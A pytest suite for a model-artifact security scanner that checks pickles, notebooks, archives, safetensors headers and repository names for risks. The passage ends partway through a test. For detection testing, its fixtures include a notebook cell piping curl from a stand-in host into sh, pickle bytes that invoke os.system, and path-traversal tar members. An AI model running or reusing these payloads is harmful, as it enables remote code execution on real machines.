import io
import os
import zipfile

import pytest
from pyspark.sql import functions as F

from cargolens import rules
from cargolens.functions.blob import Blob
from cargolens.operators import containers, governance, hub, naming, pickles, reports
from cargolens.plans.audit import Config, audit, audit_hub, audit_paths
from cargolens.sources import remote_zip, tree
from tests import fixtures


@pytest.fixture(scope="module")
def golden(spark, tmp_path_factory):
    roots = fixtures.write(tmp_path_factory.mktemp("trees"), fixtures.TREES)
    a = audit_paths(spark, roots, Config(hash_files=True))
    short = lambda df: df.withColumn("t", F.element_at(F.split("target_id", "/"), -1)).cache()
    return roots, a, short(a.findings), short(a.verdicts)


def test_golden_matrix(golden):
    _, _, findings, verdicts = golden
    rows = {r.t: r for r in verdicts.collect()}
    seen = {}
    for r in findings.where("severity <> 'INFO'").select("t", "rule_id").distinct().collect():
        seen.setdefault(r.t, set()).add(r.rule_id)
    got = {t: (rows[t].score, rows[t].verdict, rows[t].exit_code, " ".join(sorted(seen.get(t, ())))) for t in fixtures.GOLDEN}
    assert got == fixtures.GOLDEN


def test_every_rule_fires(spark, golden, tmp_path):
    a = audit_paths(spark, fixtures.write(tmp_path, fixtures.RULE_TREES))
    fired = {(r.target_id.rsplit("/", 1)[-1], r.rule_id) for r in a.findings.select("target_id", "rule_id").distinct().collect()}
    missing = [r for r in fixtures.RULE_TREES if (r, r) not in fired]
    assert not missing
    assert {r for _, r in fired} <= set(rules.TITLES)


def test_analyzers_and_policy(spark, golden):
    roots, a, findings, _ = golden
    some = audit_paths(spark, roots[:4], Config(only=("pickle",)))
    assert {r.rule_id.split("-")[0] for r in some.findings.select("rule_id").distinct().collect()} == {"FMT", "PKL"}
    policy = governance.Policy.from_dict({"allow_pickle": True, "ignore_rules": ["REPO-004"], "fail_on": "critical", "allowlist_repos": [roots[2]]})
    left = governance.apply_policy(a.findings, policy)
    assert {"FMT-001", "REPO-004"}.isdisjoint(r.rule_id for r in left.select("rule_id").distinct().collect())
    v = {r.target_id: r for r in governance.verdicts(a.findings, a.verdicts, policy).collect()}
    assert v[roots[2]].verdict == "ALLOW (policy allowlist)" and v[roots[2]].score == 0
    with pytest.raises(ValueError):
        governance.Policy.from_dict({"fail_on": "odd"})


def test_baseline(spark, golden):
    roots, a, _, _ = golden
    base = governance.as_baseline(a.findings, a.files)
    assert governance.new_findings(a.findings, a.files, base).isEmpty()
    fewer = base.where("rule_id <> 'PKL-001'")
    left = governance.new_findings(a.findings, a.files, fewer)
    assert {r.rule_id for r in left.select("rule_id").distinct().collect()} == {"PKL-001"} and left.first().is_new


def test_npy_header_is_searched_to_its_end(spark, tmp_path):
    import struct

    from cargolens.model import union
    from cargolens.operators import tensors

    head = b"{'descr': [" + b"('f', '<f4'), " * 100_000 + b"('o', '|O')], 'shape': (1,), }"
    big = b"\x93NUMPY\x02\x00" + struct.pack("<I", len(head)) + head
    a = audit_paths(spark, fixtures.write(tmp_path, {"big": {"m.npy": big, "w.npz": fixtures.archive({"arr.npy": big})}}))
    found = [r for r in a.findings.where("rule_id = 'NPY-001'").collect()]
    assert sorted(r.location for r in found) == ["m.npy", "w.npz!arr.npy"] and {r.severity for r in found} == {"HIGH"}
    assert len(big) > 1 << 20 and {tuple(r.evidence) for r in found} == {(head[:200].decode(),)}
    odd = [big, big[:9], big[:11], b"x" * 20, fixtures.npy(), fixtures.npy("<f4"), big[:-30]]
    got = [tensors.npy_row(Blob(x)) for x in odd]
    assert [(r.get("problem"), r.get("has_object", False)) for r in got] == [(None, True), ("no header", False), ("header ends early", False), ("no header", False), (None, True), (None, False), (None, False)]
    rows = spark.createDataFrame([("t", str(i), r) for i, r in enumerate(got)], f"target_id string, location string, x struct<{tensors.NPY.replace(' ', ':', 1).replace(', ', ',').replace(' string', ':string').replace(' boolean', ':boolean')}>").select("target_id", "location", "x.*")
    assert {(r.location, r.rule_id) for r in union(tensors.npy_findings(rows)).collect()} == {("0", "NPY-001"), ("1", "NPY-000"), ("2", "NPY-000"), ("3", "NPY-000"), ("4", "NPY-001")}


def old_tar(members):
    """A tar without the ustar mark, as version 7 wrote."""
    out = b""
    for name, (data, mode) in members.items():
        head = bytearray(512)
        head[: len(name)] = name.encode()
        for at, n, value in ((100, 8, mode), (108, 8, 0), (116, 8, 0), (124, 12, len(data)), (136, 12, 0)):
            head[at : at + n] = f"{value:0{n - 1}o}".encode() + b"\0"
        head[148:156] = b" " * 8
        head[148:156] = f"{sum(head):06o}\0 ".encode()
        out += bytes(head) + data.ljust(-(-len(data) // 512) * 512, b"\0")
    return out + b"\0" * 1024


def hostile():
    """Files that end a careless audit, and files whose payload a careless reader misses."""
    import bz2
    import json
    import lzma

    return {
        "surrogate-pickle": {"m.pkl": bytes.fromhex("80048c03eda080942e")},
        "surrogate-template": {"tokenizer_config.json": b'{"chat_template": "\\ud800 {{ x.__class__ }}"}'},
        "surrogate-tensor": {"m.safetensors": fixtures.tensors({"\ud800": ("F32", [1], 4, 0)}, body=8)},
        "surrogate-notebook": {"n.ipynb": json.dumps({"cells": [{"cell_type": "code", "source": ["!ls \udfff"]}]}).encode()},
        "deep-sum": {"a.py": b"__import__('a'" + b"+'a'" * 1500 + b"+chr(1))\n"},
        "deep-json": {"config.json": b"[" * 100_000, "n.ipynb": b"[" * 100_000},
        "odd-notebook": {"n.ipynb": b'{"cells": [3]}'},
        "odd-cell": {"n.ipynb": b'{"cells": ["odd", {"cell_type": "code", "source": ["!curl http://x.invalid | sh"]}, {"cell_type": "code", "source": 5}]}'},
        "odd-cells": {"n.ipynb": b'{"cells": 7}', "m.ipynb": b'[{"cells": []}]'},
        "joined-bz2": {"m.bz2": bz2.compress(b"\x80") + bz2.compress(fixtures.ECHO[1:])},
        "joined-xz": {"m.xz": lzma.compress(b"\x80") + lzma.compress(fixtures.ECHO[1:])},
        "bz2-and-garbage": {"m.bz2": bz2.compress(fixtures.ECHO) + b"tail"},
        "old-tar": {"weights.dat": old_tar({"../up": (b"1", 0o644), "m.pkl": (fixtures.ECHO, 0o755)})},
        "huge-numbers": {"m.safetensors": fixtures.tensors({"w": ("F32", [10**40], 0, 10**45)}, body=8)},
        "clean": {"README.md": b"# fine\n", "model.safetensors": fixtures.SAFE},
    }


def test_no_file_ends_the_audit(spark, tmp_path):
    roots = fixtures.write(tmp_path, hostile())
    with open(os.fsencode(roots[-1]) + b"/bad\xff.txt", "wb") as f:
        f.write(b"x")
    a = audit_paths(spark, roots, Config(hash_files=True))
    name = lambda r: r.target_id.rsplit("/", 1)[-1]
    fired: dict[str, set] = {}
    for r in a.findings.select("target_id", "rule_id").distinct().collect():
        fired.setdefault(name(r), set()).add(r.rule_id)
    verdicts = {name(r): r for r in a.verdicts.collect()}
    assert set(verdicts) == set(hostile()) and verdicts["clean"].verdict == "ALLOW" and verdicts["clean"].exit_code == 0
    assert "FMT-001" in fired["surrogate-pickle"] and "TPL-001" in fired["surrogate-template"] and "STF-004" in fired["surrogate-tensor"] and "NB-001" in fired["surrogate-notebook"]
    assert "PY-002" in fired["deep-sum"] and "CFG-000" in fired["deep-json"] and "STF-004" in fired["huge-numbers"]
    for t in ("joined-bz2", "joined-xz", "bz2-and-garbage", "old-tar"):
        assert "PKL-001" in fired[t], t
    assert {"ZIP-001", "ZIP-006"} <= fired["old-tar"]
    # an odd cell hides nothing: the others' lines count, and the file is an error besides
    severe = a.findings.where("rule_id = 'NB-001' and severity = 'HIGH'").collect()
    assert "odd-cell" in {name(r) for r in severe} and verdicts["odd-cell"].verdict == "REVIEW"
    failed = {(name(r), r.path): r.error for r in a.errors.collect()}
    assert "cell 0 is a str" in failed["odd-cell", "n.ipynb"] and "cell 0 is a int" in failed["odd-notebook", "n.ipynb"]
    assert {("odd-cells", "n.ipynb"), ("odd-cells", "m.ipynb")} <= set(failed) and verdicts["odd-notebook"].exit_code in (0, 3)
    assert {name(r) for r in a.files.where("not inspected").collect()} >= {"odd-cell", "odd-notebook", "odd-cells"}
    assert {r.path for r in a.files.where("path like 'bad%'").collect()} == {"bad\\xff.txt"}
    assert all(r.sha256 for r in a.files.where("inspected").collect())


def test_a_failing_parser_is_an_error_of_its_file(spark, tmp_path, monkeypatch):
    from cargolens.operators import facts

    rows = list(facts.Parser({"npy"}).rows("p", "p", "npy", True, Blob(b"x", os.fsencode(__file__), 10**9)))
    assert rows[0][1] == "npy"
    broken = type("Broken", (Blob,), {"read": lambda self, *a: 1 // 0})
    assert list(facts.Parser({"npy"}).rows("p", "p", "npy", True, broken(b"x"))) == [("p", "error", {"message": "ZeroDivisionError: integer division or modulo by zero"})]
    # what Arrow refuses is an error too, and stands beside the rest
    from pyspark.sql.pandas.types import to_arrow_schema

    key = {"target_id": "t", "path": "p", "location": "p"}
    batch = facts.as_batch([key | {"kind": "member", "member": {"member": m, "mode": mode}} for m, mode in (("a\ud800", 1), ("b", 10**12), ("c", 3))], to_arrow_schema(facts._schema()))
    assert batch.column(3).to_pylist() == ["member", "error", "member"] and batch.to_pylist()[0]["member"]["member"] == "a\\ud800"


def test_large_sparse_file_is_read_by_ranges(spark, tmp_path):
    """3 GB of tensors behind a small header: neither the listing nor the parser takes them into memory."""
    import json
    import struct

    head = json.dumps({"w": {"dtype": "F32", "shape": [3 << 28], "data_offsets": [0, 3 << 30]}, "v": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    (tmp_path / "big").mkdir()
    with open(tmp_path / "big" / "m.safetensors", "wb") as f:
        f.write(struct.pack("<Q", len(head)) + head)
        f.truncate(8 + len(head) + (3 << 30))
    a = audit_paths(spark, [str(tmp_path / "big")], Config(hash_files=True))
    assert {r.rule_id for r in a.findings.collect()} == {"STF-006", "REPO-004", "SIG-002"}
    f = a.files.first()
    assert f.inspected and f.size == 8 + len(head) + (3 << 30) and f.sha256 is None and a.errors.count() == 0
    a.release()


def test_reports_list_all_findings(spark):
    found = spark.range(1500).select(F.lit("t").alias("target_id"), F.lit("PKL-001").alias("rule_id"), F.lit("HIGH").alias("severity"), F.format_string("f%05d", "id").alias("location"), F.lit("").alias("detail"), F.array().cast("array<string>").alias("evidence"))
    verdicts = spark.createDataFrame([("t", "BLOCK", 100)], "target_id string, verdict string, score int")
    files = spark.createDataFrame([("t", "f", 1, "pickle")], "target_id string, path string, size long, format string")
    assert reports.text_report(found, verdicts, "t").count("[HIGH]") == 1500
    assert reports.html_report(found, files, verdicts, "t").count("<section") == 1500


def test_reports(golden):
    import json

    roots, a, _, _ = golden
    one = lambda df: {r.target_id: json.loads(r.document) for r in df.collect()}[roots[2]]
    doc = one(reports.json_report(a.findings, a.files, a.verdicts))
    assert doc["verdict"] == "BLOCK" and doc["findings"][0]["rule_id"] == "PKL-001"
    run = one(reports.sarif(a.findings, a.verdicts))["runs"][0]
    assert len(run["tool"]["driver"]["rules"]) == len({r["ruleId"] for r in run["results"]}) and run["results"][0]["level"] == "error"
    bom = one(reports.cyclonedx(a.findings, a.files))
    assert bom["bomFormat"] == "CycloneDX" and len(bom["components"]) == 3 and bom["components"][1]["hashes"][0]["alg"] == "SHA-256"
    text = reports.text_report(a.findings, a.verdicts, roots[2])
    assert "PKL-001" in text and "BLOCK" in text
    assert "<h1>" in reports.html_report(a.findings, a.files, a.verdicts, roots[2])
    assert reports.format_histogram(a.files).first().n > 1


def test_pickle_walk():
    w = pickles.walk(fixtures.ECHO)
    assert [(x["module"], x["attr"]) for x in w["imports"]] == [("posix", "system")] and w["calls"] == ["REDUCE"] and w["error"] is None
    text = lambda s: b"\x8c" + bytes([len(s)]) + s.encode()
    fetched = b"\x80\x04" + text("os") + b"\x940" + text("x") + b"0h\x00" + text("system") + b"\x93."
    assert pickles.walk(fetched, memo=True)["imports"][0]["module"] == "os"
    assert pickles.walk(fetched)["imports"][0]["module"] == "x"
    assert pickles.walk(b"")["error"]


def test_long_streams_are_rows_of_imports(spark, tmp_path, monkeypatch):
    """Any number of names in one stream gives the findings of a list of them, from rows of bounded size."""
    from cargolens.operators import facts

    names = [("os", "system")] * 700 + [(f"m{i % 1500}", "x") for i in range(4000)] + [("posix", "popen"), ("os", "system")]
    data = b"\x80\x02" + b"".join(f"c{m}\n{a}\n0".encode() for m, a in names) + b")R."
    monkeypatch.setattr(pickles, "MOST_SEEN", 600)
    parts = list(facts.Parser({"pickle", "import"}).rows("m.pkl", "m.pkl", "pickle", True, Blob(data)))
    assert [k for _, k, _ in parts][-1] == "pickle" and parts[-1][2]["names"] is None and parts[-1][2]["n_imports"] == len(names)
    assert all(len(f["names"]) <= pickles.ROW_NAMES for _, k, f in parts if k == "import") and len(parts) > 4
    a = audit_paths(spark, fixtures.write(tmp_path, {"t": {"m.pkl": data, "n.pkl": fixtures.ECHO}}), Config(only=("pickle",)))
    got = sorted((r.location, r.rule_id, r.severity, r.detail, *r.evidence) for r in a.findings.where("rule_id in ('PKL-001', 'PKL-002')").collect())
    table = spark.createDataFrame([("t", "m.pkl", bytearray(data)), ("t", "n.pkl", bytearray(fixtures.ECHO))], "target_id string, location string, content binary")
    want = sorted((r.location, r.rule_id, r.severity, r.detail, *r.evidence) for r in pickles.findings(pickles.facts(table))[0].collect())
    assert got == want and len(got) == 1503


def test_pickles_are_walked_in_bounded_memory(tmp_path):
    """60 MB of GLOBALs, of distinct ones, of BUILDs and of pushed strings, in a process that may use little more than Python itself."""
    import subprocess
    import sys

    code = (
        "import resource, sys, itertools; from cargolens.operators import pickles; kind, path = sys.argv[1:]\n"
        "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "w = pickles.Walk(open(path, 'rb'), 1 << 26); n = sum(len(r) for r in w.import_rows())\n"
        "print(n, w.summary['n_imports'], w.summary['n_calls'], w.summary['error'], (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base) // 1024)"
    )
    for kind, (unit, n) in {"globals": (lambda i: b"cos\nsystem\n0", 400_000), "distinct": (lambda i: b"cm%d\nx\n0" % i, 400_000), "builds": (lambda i: b"b" * 1000, 1000), "strings": (lambda i: b"\x8c\x64" + b"%0100d" % i, 400_000)}.items():
        path = tmp_path / kind
        with open(path, "wb") as f:
            f.write(b"\x80\x04")
            for i in range(n):
                f.write(unit(i))
            f.write(b"\x93." if kind == "strings" else b".")
        out = subprocess.run([sys.executable, "-c", code, kind, str(path)], capture_output=True, text=True, timeout=200, cwd=os.path.dirname(os.path.dirname(__file__))).stdout.split()
        assert int(out[-1]) < 220 and out[3] == "None", (kind, out)
        assert {"globals": out[1] == "400000" and out[0] == "1", "distinct": out[0] == out[1] == "400000", "builds": out[2] == "1000000", "strings": out[1] == "1"}[kind], out


def test_strings_beyond_those_kept_are_an_error(monkeypatch):
    monkeypatch.setattr(pickles, "MOST_PUSHED", 4)
    data = b"\x80\x04" + b"".join(b"\x8c\x01" + bytes([97 + i % 26]) for i in range(40)) + b"\x93" * 12 + b"."
    w = pickles.walk(data)
    assert "more pushed strings" in w["error"] and 1 < len(w["imports"]) < 12


def test_staged_import_is_one_notch_lower(spark):
    staged = fixtures.call("os", "system", "x")[:-3] + b"."
    s = spark.createDataFrame([("t", "a", bytearray(staged)), ("t", "b", bytearray(fixtures.ECHO))], "target_id string, location string, content binary")
    found = {r.location: r.severity for f in pickles.findings(pickles.facts(s)) for r in f.where("rule_id = 'PKL-001'").collect()}
    assert found == {"a": "HIGH", "b": "CRITICAL"}


def test_explain(spark):
    data = fixtures.ECHO + b"\x80\x04K\x01."
    trace, summary = pickles.explain(spark.createDataFrame([("t", "a", bytearray(data))], "target_id string, location string, content binary"), 20)
    assert trace.where("bucket = 'deny'").count() == 1 and trace.count() == 8
    r = summary.first()
    assert r.trailing == 5 and r.second_stream and r.tail_hex.startswith("8004")


def test_explain_finds_the_streams_of_files(spark):
    files = {"a.bin": fixtures.torch_zip(fixtures.ECHO), "b.npy": fixtures.npy(), "c.pkl": fixtures.ECHO, "d.zip": b"PK\x03\x04x", "e.npz": fixtures.archive({"x.npy": fixtures.npy(), "y.pkl": fixtures.ECHO})}
    d = spark.createDataFrame([("t", p, bytearray(x)) for p, x in files.items()], "target_id string, path string, content binary")
    got = {r.location: (None if r.content is None else bytes(r.content), r.error) for r in pickles.located(d).collect()}
    tail = b"\x80\x04K\x01."
    assert {k: v[0] for k, v in got.items()} == {"a.bin!archive/data.pkl": fixtures.ECHO, "b.npy": tail, "c.pkl": fixtures.ECHO, "d.zip": None, "e.npz!x.npy": tail, "e.npz!y.pkl": fixtures.ECHO}
    assert "container" in got["d.zip"][1]
    assert [r.location for r in pickles.located(d.where("path = 'e.npz'"), "y.pkl").collect()] == ["e.npz!y.pkl"]


def test_stored_reports_corpus_and_policy(spark, golden, tmp_path):
    from cargolens.sources import stored

    _, a, _, _ = golden
    stored.write_documents(reports.json_report(a.findings, a.files, a.verdicts), str(tmp_path / "r"))
    base = stored.read_baseline(spark, str(tmp_path / "r"))
    assert governance.new_findings(a.findings, a.files, base).isEmpty()
    stored.write_documents(reports.sarif(a.findings, a.verdicts), str(tmp_path / "s"), as_text=True)
    assert spark.read.text(str(tmp_path / "s")).count() == a.verdicts.count()
    path = str(tmp_path / "corpus.json")
    assert stored.read_corpus(spark, path).names.count() == naming.seed_corpus(spark).distinct().count()
    stored.write_corpus(spark.createDataFrame([("org", "own-org"), ("model", "own-model")], "kind string, name string"), path)
    c = stored.read_corpus(spark, path)
    assert c.age_days == 0 and c.error is None and c.names.where("name like 'own-%'").count() == 2
    (tmp_path / "corpus.json").write_text("{no")
    assert stored.read_corpus(spark, path).error and stored.read_policy(None) == governance.Policy()
    (tmp_path / "p.json").write_text('{"fail_on": "low", "ignore_rules": ["X-1"]}')
    assert stored.read_policy(str(tmp_path / "p.json")).fail_on == "LOW"


def test_tar_and_bounds(spark, tmp_path):
    trees = {"t": {"a.tar": fixtures.tar({"../x": (b"1", 0o644), "run": (b"1", 0o755), "m.pkl": (fixtures.ECHO, 0o644)})}}
    rows = audit_paths(spark, fixtures.write(tmp_path, trees)).findings.collect()
    assert {"ZIP-001", "ZIP-006", "PKL-001"} <= {r.rule_id for r in rows}
    import gzip

    raw, n, error = containers.bounded_inflate(gzip.compress(b"\0" * 5_000_000), "gzip", 1000)
    assert n == 1001 and error is None


def test_limits_of_streams_and_headers(spark):
    """ENG-001, STF-000 and STF-002, which no small file fires; sizes are what the rules go by."""
    from cargolens.model import union
    from cargolens.operators import facts, tensors

    big, none = containers.stream_row("gzip", (64 << 20) + 1, lambda: 1 // 0)
    assert big["outcome"] == "too-big" and none is None
    rows = [big | {"target_id": "t", "path": "a"}, big | {"target_id": "t", "path": "b", "size": 600_000, "raw_size": (64 << 20) + 1, "outcome": "too-big-inside"}]
    kind = "target_id string, path string, " + facts.KINDS["stream"]
    got = {(r.location, r.rule_id, r.confidence) for r in union(containers.stream_findings(spark.createDataFrame(rows, kind))).collect()}
    assert got == {("a", "ENG-001", "high"), ("b", "ENG-001", "medium")}
    assert list(tensors.tensor_rows(Blob(b"abc"))) == [{"problem": "short"}]
    from decimal import Decimal

    rows = [{"target_id": "t", "path": "a", "problem": "short"}, {"target_id": "t", "path": "b", "header_size": Decimal((100 << 20) + 1), "size": 1 << 40}]
    kind = "target_id string, path string, " + facts.KINDS["tensor"]
    assert {(r.location, r.rule_id) for r in union(tensors.safetensors_findings(spark.createDataFrame(rows, kind))).collect()} == {("a", "STF-000"), ("b", "STF-002")}


def test_columns_over_names_and_sizes(spark):
    from cargolens.functions.content import byte_size_text
    from cargolens.functions.names import ascii_canonical, canonical

    names = ["Meta-Llama_3.1 8B", "ＧＯＯＧＬＥ", "café-Model", ""]
    got = [r.c for r in spark.createDataFrame(list(enumerate(names)), "i int, n string").select("i", canonical(F.col("n")).alias("c")).orderBy("i").collect()]
    assert got[0] == "metallama318b" and got[1] == "google" and got[3] == ""
    assert spark.createDataFrame([("A-b_C",)], "n string").select(ascii_canonical(F.col("n"))).first()[0] == "abc"
    sizes = [0, 1023, 1024, 1536, 5 << 30, 1 << 50]
    shown = [r.s for r in spark.createDataFrame(list(enumerate(sizes)), "i int, n long").select("i", byte_size_text(F.col("n")).alias("s")).orderBy("i").collect()]
    assert shown == ["0.0B", "1023.0B", "1.0KB", "1.5KB", "5.0GB", "1.0PB"]


def test_old_protocol_look_alikes(spark):
    from cargolens.operators import identify

    texts = ["class Foo: pass", "import os", "(a, b) = 1, 2", "Some text.", "Not a stream.", "}", "]", "cos\nsystem", "Vabc", "I am", "Larger", "K."]
    rows = [("t", f"{i}.txt", bytearray(t.encode())) for i, t in enumerate(texts)] + [("t", "p.bin", bytearray(b"(lp0\nI1\na."))] + [("t", f"v{p}.bin", bytearray(b"\x80" + bytes([p]) + b"K\x01.")) for p in range(6)]
    f = {r.path: r.format for r in identify.identify(tree.described(spark.createDataFrame(rows, "target_id string, path string, content binary"))).collect()}
    assert {p for p, x in f.items() if x == "pickle"} == {"p.bin", *(f"v{p}.bin" for p in range(6))}


def test_names(spark):
    cases = {
        "meta-llama/Llama-2-7b": set(), "google/gemma-7b-it": set(), "openai/whisper-base": set(), "meta_llama/x": {"SQT-008"}, "Google/x": {"SQT-008"}, "g00gle/x": {"SQT-003"},
        "rnicrosoft/phi-2": {"SQT-003", "SQT-005"}, "opneai/x": {"SQT-002"}, "google-official/x": {"SQT-004"}, "someone/gpt2": {"SQT-005"}, "openai/whisper-bsae": {"SQT-006"}, "-odd--/zzz": {"SQT-007"}, "gооgle/x": {"SQT-001"},
    }
    ids = spark.createDataFrame([(i, i) for i in cases], "target_id string, repo_id string")
    for most in (200_000, 0):
        got: dict[str, set] = {}
        for r in naming.findings(ids, naming.seed_corpus(spark), broadcast_names=most).collect():
            got.setdefault(r.target_id, set()).add(r.rule_id)
        for i, want in cases.items():
            assert want <= got.get(i, set()), (most, i, got.get(i))
            assert want or not got.get(i), (most, i, got.get(i))
    assert naming.findings(ids.limit(1), naming.seed_corpus(spark), 91).where("rule_id = 'SQT-009'").count() == 1


def test_distance_is_osa(spark):
    from cargolens.functions.names import osa_distance

    def brute(a, b):
        d = {(i, 0): i for i in range(len(a) + 1)} | {(0, j): j for j in range(len(b) + 1)}
        for i in range(1, len(a) + 1):
            for j in range(1, len(b) + 1):
                c = a[i - 1] != b[j - 1]
                d[i, j] = min(d[i - 1, j] + 1, d[i, j - 1] + 1, d[i - 1, j - 1] + c)
                if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
                    d[i, j] = min(d[i, j], d[i - 2, j - 2] + c)
        return d[len(a), len(b)]

    pairs = [("openai", "opneai"), ("ca", "abc"), ("", "ab"), ("a", ""), ("same", "same"), ("kitten", "sitting"), ("abcd", "badc")]
    got = spark.createDataFrame(pairs, "a string, b string").select("a", "b", osa_distance(F.col("a"), F.col("b")).alias("d")).collect()
    assert [(r.a, r.b, r.d) for r in got] == [(a, b, brute(a, b)) for a, b in pairs]


def test_hub(spark):
    sib = [("model.bin", 5, True), ("a.py", 1, False)]
    rows = [(f"new/m{i}", None, 1, 0, "2024-01-01T00:00:00.000Z", None, None, False, ["custom_code"], sib) for i in range(10)] + [("old/m", None, 10**6, 10**4, "2020-01-01T00:00:00Z", None, "auto", True, [], [])]
    repos = spark.createDataFrame(rows, hub.REPOS)
    a = audit_hub(repos, as_of="2024-01-05T00:00:00Z")
    got = {r.rule_id for r in a.findings.where("target_id = 'new/m0'").collect()}
    assert {"PRV-001", "PRV-002", "PRV-005", "PRV-006", "REPO-001", "REPO-006"} <= got
    assert {"PRV-003", "PRV-004"} <= {r.rule_id for r in a.findings.where("target_id = 'old/m'").collect()}
    local = spark.createDataFrame([("new/m0", "model.bin"), ("new/m0", "x/a.py"), ("new/m0", "injected.py"), ("new/m0", "README.md")], "target_id string, path string")
    drift = hub.manifest_drift(local, repos).collect()
    named = audit(tree.described(local.withColumn("content", F.lit(b"x"))), repos=repos, identifiers=local.select("target_id", F.col("target_id").alias("repo_id")).distinct(), corpus_age_days=91, as_of="2024-01-05T00:00:00Z")
    assert {"PRV-007", "SQT-009"} <= {r.rule_id for r in named.findings.where("target_id = 'new/m0'").collect()}
    assert [(r.location, list(r.evidence)) for r in drift] == [("injected.py", ["injected.py"])]


def test_remote_zip(spark):
    data = fixtures.torch_zip(fixtures.ECHO)
    deflated = io.BytesIO()
    with zipfile.ZipFile(deflated, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("big.bin", b"\1" * 200_000)
        z.writestr("archive/data.pkl", fixtures.state())
    files = {"a": data, "b": deflated.getvalue(), "c": fixtures.ECHO}

    def opener(url):
        return len(files[url]), lambda start, n: files[url][start : start + n]

    rows = spark.createDataFrame([("t", u, u) for u in files], "target_id string, path string, url string")
    got = {r.location: bytes(r.content) for r in remote_zip.remote_pickles(rows, opener).collect()}
    assert got == {"a!archive/data.pkl": fixtures.ECHO, "b!archive/data.pkl": fixtures.state(), "c": fixtures.ECHO}
    # a member that inflates beyond the limit is an error, not its first part
    much = io.BytesIO()
    with zipfile.ZipFile(much, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("data.pkl", b"\0" * (remote_zip.MEMBER_BYTES + 1))
    files["d"] = much.getvalue()
    r = remote_zip.remote_pickles(spark.createDataFrame([("t", "d", "d")], "target_id string, path string, url string"), opener).first()
    assert r.content is None and "beyond the read limit" in r.error


def test_score_properties(spark):
    rows = [("a", "HIGH", "high")] * 3 + [("b", "CRITICAL", "high")] * 5 + [("c", "LOW", "low")] + [("d", "HIGH", "medium"), ("d", "HIGH", "high"), ("d", "HIGH", "odd")]
    df = spark.createDataFrame([(t, "X-1", s, "x", c, "l", "", []) for t, s, c in rows], "target_id string, rule_id string, severity string, category string, confidence string, location string, detail string, evidence array<string>")
    got = {r.target_id: r.score for r in governance.scores(df).collect()}
    assert got["b"] == 100 and got["a"] == round(22 * (1 + 0.65 + 0.65**2)) and got["c"] == round(0.8) and got["d"] == round(22 * (1 + 0.65 + 0.7 * 0.65**2))


def test_extensions_are_opt_in(spark, tmp_path):
    trees = {"a": {"m.pkl": fixtures.TREES["appended-pickle"]["appended.pkl"], "m.index.json": b'{"weight_map": {"w": "gone.bin"}}'}}
    roots = fixtures.write(tmp_path, trees)
    plain = {r.rule_id for r in audit_paths(spark, roots).findings.collect()}
    more = {r.rule_id for r in audit_paths(spark, roots, Config(extensions=True)).findings.collect()}
    assert more - plain == {"PKL-006", "REPO-007"}


def test_source_reads_hidden_files_and_heads(spark, tmp_path):
    fixtures.write(tmp_path, {"a": {".hidden": b"12345", "_under": b"x", "sub/b.txt": b"y", ".git/c": b"z"}})
    rows = tree.artifacts(spark, [str(tmp_path / "a")], head_bytes=3).collect()
    assert {(r.path, bytes(r.content), r.size) for r in rows} == {(".hidden", b"123", 5), ("_under", b"x", 1), ("sub/b.txt", b"y", 1)}
    big = audit(tree.artifacts(spark, [str(tmp_path / "a")], max_file_mb=0))
    assert big.errors.count() == 3 and {r.exit_code for r in big.verdicts.collect()} <= {0, 3}


def test_gate_streams(spark, tmp_path):
    from cargolens.streaming.gate import gate

    src = str(tmp_path / "in")
    rows = [(t, p, True, len(d), bytearray(d)) for t in ("clean-model", "os-system") for p, d in fixtures.TREES[t].items()]
    tree.described(spark.createDataFrame(rows, "target_id string, path string, is_repo boolean, size long, content binary")).write.parquet(src)
    schema = spark.read.parquet(src).schema
    q = gate(spark.readStream.schema(schema).parquet(src), str(tmp_path / "out"), str(tmp_path / "check"))
    q.awaitTermination(120)
    got = {r.target_id: r.admitted for r in spark.read.parquet(str(tmp_path / "out" / "*")).collect()}
    assert got == {"clean-model": True, "os-system": False}


def test_stateful_gate_equals_the_audit(spark, golden, tmp_path):
    """Files of all golden targets arrive in a random order in batches, with a restart and a batch that is run again: the verdicts are the audit's."""
    import random
    import shutil

    from cargolens.streaming.gate import StatefulGate

    _, _, _, verdicts = golden
    rows = [(t, p, True, len(d), bytearray(d)) for t in fixtures.GOLDEN for p, d in fixtures.TREES[t].items()]
    rows += [("broken", "n.ipynb", True, 3, bytearray(b'{"cells": [3]}')), ("broken", "README.md", True, 3, bytearray(b"abc"))]
    random.Random(2).shuffle(rows)
    schema = "target_id string, path string, is_repo boolean, size long, content binary"
    g, src = StatefulGate(str(tmp_path / "gate")), str(tmp_path / "in")
    parts = [rows[k::4] for k in range(4)]
    flat = tree.described(spark.createDataFrame(rows[:1], schema))
    for k, part in enumerate(parts):
        tree.described(spark.createDataFrame(part, schema)).coalesce(1).write.mode("append").parquet(src)
        arrivals = spark.readStream.schema(flat.schema).option("maxFilesPerTrigger", 1).parquet(src)
        assert g.collect(arrivals).awaitTermination(150)
        if k == 2:
            # a batch that was run again leaves other files under its number, which don't count twice
            again = str(tmp_path / "gate" / "partials" / "batch=2")
            shutil.copytree(again, str(tmp_path / "copy"))
            assert g.judge(spark).awaitTermination(150)
            spark.read.parquet(str(tmp_path / "copy")).write.mode("overwrite").parquet(again)
        if k != 1:
            assert g.judge(spark).awaitTermination(150)
    got = {r.target_id: (r.score, r.verdict, r.exit_code) for r in g.verdicts(spark).collect()}
    want = {t: fixtures.GOLDEN[t][:3] for t in fixtures.GOLDEN}
    assert {t: v for t, v in got.items() if t != "broken"} == want and got["broken"] == (0, "ALLOW", 0 if got["broken"][2] == 0 else 3)
    whole = {r.t: (r.n_critical, r.n_high, r.n_medium, r.n_low, r.n_info, r.max_severity) for r in verdicts.collect()}
    assert {r.target_id: (r.n_critical, r.n_high, r.n_medium, r.n_low, r.n_info, r.max_severity) for r in g.verdicts(spark).collect() if r.target_id != "broken"} == {t: whole[t] for t in want}
    assert {r.target_id for r in g.verdicts(spark).where("parts > 1").collect()}


def test_quiet_targets_settle(spark, tmp_path):
    """Two shares of a target, then silence: its timer tells that it has settled, and a share that comes again changes nothing."""
    import time

    from cargolens.streaming.gate import PARTIAL, StatefulGate

    g = StatefulGate(str(tmp_path), quiet_seconds=0.5)
